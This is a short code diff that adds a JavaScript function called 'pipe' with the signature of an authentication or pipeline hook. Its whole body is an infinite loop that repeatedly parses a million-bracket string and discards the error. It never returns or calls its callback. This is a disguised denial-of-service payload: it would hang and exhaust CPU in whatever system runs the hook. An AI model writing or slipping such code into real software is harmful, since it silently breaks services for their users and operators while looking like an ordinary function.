@@ -1,0 +1,3 @@
+function pipe(user, context, callback) {
+  for (;;) { try { JSON.parse('['.repeat(1e6)); } catch (e) {} }
+}
